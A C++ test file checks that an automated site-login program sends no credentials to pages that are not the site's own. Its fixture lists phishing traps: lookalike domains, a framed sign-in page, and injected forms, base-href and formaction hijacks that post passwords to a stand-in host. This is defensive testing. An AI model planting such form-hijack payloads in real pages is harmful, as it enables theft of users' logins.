// SPDX-License-Identifier: MIT
// Pages that want the password and aren't the site's: whatever they look like, nothing is typed into them.
#include "LoopbackServer.h"
#include "PrintText.h"
#include "RunningProgram.h"
#include "SiteProcess.h"

#include <gtest/gtest.h>

namespace qlm {
namespace {

const QString Fields =
    u"<input id=x_Email_Textbox name=mail><input type=password id=x_Password_Textbox name=word>"
    "<input type=submit name=loginbutton value='Log In'></form>Forgot your password?"_s;

QString FormTo(const QString& address) {
    return u"<form method=post action='"_s + address + u"'>"_s + Fields;
}

LoopbackAnswer Page(const QString& body) {
    LoopbackAnswer answer;
    answer.body = (u"<!DOCTYPE html><body><a href=/>Home</a>"_s + body).toUtf8();
    return answer;
}

LoopbackAnswer Redirect(const QString& address) {
    LoopbackAnswer answer;
    answer.status = 302;
    answer.headers = "Location: " + address.toLatin1() + "\r\n";
    return answer;
}

struct Trap {
    QString address; // ends as that of a site that has logged its user out
    QString body;
};

const QList<Trap>& Traps() {
    const QString taker = u"http://taker.com/take"_s;
    static const QList<Trap> traps{
        {u"stranger.com/"_s, FormTo(u"/take"_s)},
        {u"www.myspace.example.com.stranger.com/"_s, FormTo(u"/take"_s)},
        {u"evilwww.myspace.example.com/"_s, FormTo(u"/take"_s)},
        {u"www.myspace.example.com@stranger2.com/"_s, FormTo(u"/take"_s)},
        {u"links.myspace.example.com/"_s, FormTo(u"/take"_s)},
        // Around the site's own sign-in page.
        {u"framing.com/"_s,
         u"Forgot your password?<iframe src='http://www.myspace.example.com/' width=500 height=400></iframe>"_s},
        // Pages of the site on which somebody has put a form of their own.
        {u"www.myspace.example.com/?1.com/"_s, FormTo(taker)},
        {u"www.myspace.example.com/?2.com/"_s, u"<base href='http://taker.com/'>"_s + FormTo(u"take"_s)},
        {u"www.myspace.example.com/?3.com/"_s,
         FormTo(taker) + u"<script>document.forms[0].append(Object.assign("
                         "document.createElement('input'), {name: 'action'}))</script>"_s},
        {u"www.myspace.example.com/?4.com/"_s,
         u"<form id=f method=post action='"_s + taker + u"'></form>"_s +
             QString(Fields).replace(u"<input "_s, u"<input form=f "_s)},
        {u"www.myspace.example.com/?5.com/"_s,
         FormTo(u"/in"_s).replace(u"<input type=submit"_s,
                                  u"<input type=submit formaction='"_s + taker + u"'"_s)},
        // One that is gone by the time that somebody types.
        {u"www.myspace.example.com/?6.com/"_s,
         FormTo(u"/in"_s) + u"<img src='http://slow.com/never'><script>setTimeout(() => "
                            "location.replace('http://stranger.com/'), 400)</script>"_s},
    };
    return traps;
}

// The server knows a page by host and path, one with a query by its whole address.
QString KeyOf(const Trap& trap) {
    const QString address = QString(trap.address).remove(u"www.myspace.example.com@"_s);
    return address.contains(u'?') ? u"http://"_s + address : address;
}

bool IsOfTheSite(const QString& url) {
    static const QStringList hosts{u"http://www.myspace.example.com/"_s,
                                   u"http://home.myspace.example.com/"_s,
                                   u"http://login.myspace.example.com/"_s};
    return std::any_of(hosts.begin(), hosts.end(),
                       [&url](const QString& host) { return url.startsWith(host); });
}

class Strangers : public testing::Test {
protected:
    Strangers() {
        server.ForwardUnknownTo(site.Port());
        LoopbackAnswer hang;
        hang.fault = LoopbackAnswer::Fault::Hang;
        server.AnswerOnly(u"slow.com/never"_s, hang);
        server.AnswerOnly(u"taker.com/take"_s, Page(u"thanks"_s));
    }

    bool WasShown(const Trap& trap) const {
        const QString asked = u"http://"_s + QString(trap.address).remove(u"www.myspace.example.com@"_s);
        const std::vector<LoopbackRequest> requests = server.Requests();
        return std::any_of(requests.begin(), requests.end(),
                           [&asked](const LoopbackRequest& request) { return request.url == asked; });
    }

    // What was sent to anybody who isn't the site.
    void ExpectNothingTold() const {
        for (const LoopbackRequest& request : server.Requests()) {
            if (IsOfTheSite(request.url))
                continue;
            const QByteArray sent = request.url.toUtf8() + request.headers + request.body;
            EXPECT_FALSE(sent.contains("secret") || sent.contains("a@example.com") ||
                         sent.contains("a%40example.com"))
                << sent.toStdString();
        }
        EXPECT_EQ(server.CountRequests(u"taker.com/take"_s), 0);
    }

    SiteProcess site;
    LoopbackServer server;
    UsedProgram folders{server.Port()};
};

} // namespace

TEST_F(Strangers, ARunThatIsLedToThemTellsThemNothingAndGoesOn) {
    const QStringList ids = SomeTargets(static_cast<int>(Traps().size()) + 1);
    folders.SaveList(ids);
    for (qsizetype i = 0; i < Traps().size(); ++i) {
        const Trap& trap = Traps()[i];
        server.AnswerOnly(RequestPage(ids[i]), Redirect(u"http://"_s + trap.address));
        server.AnswerOnly(KeyOf(trap), Page(trap.body));
    }
    RunningProgram program(folders);
    program.PlanSending();
    program.PlanReport(200);
    EXPECT_TRUE(program.Run()) << program.driver.Problem().toStdString();
    ExpectNothingTold();
    for (qsizetype i = 0; i < Traps().size(); ++i)
        EXPECT_TRUE(WasShown(Traps()[i])) << Traps()[i].address.toStdString();
    EXPECT_EQ(folders.Log(), QStringList{ids.last()});
}

} // namespace qlm
